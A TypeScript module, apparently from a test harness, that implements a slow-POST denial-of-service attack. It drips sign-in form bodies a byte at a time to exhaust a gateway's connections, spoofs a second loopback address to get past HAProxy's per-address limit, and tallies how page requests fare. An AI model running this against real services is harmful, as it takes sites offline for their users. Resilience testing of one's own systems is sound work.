import { atRate } from "../at-rate.ts";
import { openSocket, openSockets } from "../sockets.ts";
import { type Attack, createTally } from "./attack.ts";

/** How often the pages are requested. */
const BURST_INTERVAL_MS = 20_000;
const FORM_BYTES = 4_000;
/** Differs from the well-behaved client's, because HAProxy accepts only 2,000 connections from one address. */
const ATTACKER = "127.0.0.2";
const PAGES = ["/", "/console/sign-in", "/errors/rate_limited", "/reference", "/openapi.json"];

/**
 * Sign-in forms whose bodies are sent a byte at a time occupy the gateway's connections to the portal, and the requests for
 * pages that wait behind them occupy capacity.
 */
export function slowForms({ forms, pages }: { forms: number; pages: number }): Attack {
  return {
    name: "slow-forms",
    about: `${forms} sign-in forms sent a byte at a time, and ${pages.toLocaleString("en")} requests for pages`,
    docsMayFail: true,
    async run(attacked, signal) {
      const tally = createTally();
      const { docsHost, docsUrl } = attacked;
      const target = { ...attacked, localAddress: ATTACKER };
      const head =
        `POST /console/sign-in HTTP/1.1\r\nHost: ${docsHost}\r\nOrigin: ${docsUrl}\r\n` +
        `Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${FORM_BYTES}\r\n\r\ntoken=`;
      const sendForm = async () => {
        const socket = await openSocket(target);
        if (!socket) return null;
        tally.add("forms");
        socket.resume().write(head);
        return socket;
      };
      const sockets = await Promise.all(Array.from({ length: forms }, sendForm));
      const getPage = async (turn: number) => {
        const [socket] = await openSockets(target, 1);
        if (!socket) return tally.add("pages without a connection");
        signal.addEventListener("abort", () => socket.destroy());
        socket.write(
          `GET ${PAGES[turn % PAGES.length]} HTTP/1.1\r\nHost: ${docsHost}\r\nAccept: text/html\r\nConnection: close\r\n\r\n`,
        );
        let status = "";
        socket.on("data", (bytes: Buffer) => (status ||= bytes.toString("latin1", 9, 12)));
        socket.once("close", () =>
          tally.add(status === "" ? "pages without a response" : `pages with status ${status}`),
        );
      };
      const burst = () => {
        for (let turn = 0; turn < pages; turn += 1) void getPage(turn);
      };
      burst();
      const bursts = setInterval(burst, BURST_INTERVAL_MS);
      // Each form gets a byte a second. Refused ones are sent again.
      await atRate(forms, signal, (turn) => {
        const index = turn % forms;
        const socket = sockets[index];
        if (socket && !socket.destroyed) return void socket.write("x");
        if (socket === undefined) return;
        tally.add("forms refused");
        sockets[index] = undefined as never;
        void sendForm().then((opened) => {
          sockets[index] = opened;
        });
      });
      clearInterval(bursts);
      for (const socket of sockets) socket?.destroy();
      return { tally: tally.counts, problems: [] };
    },
  };
}
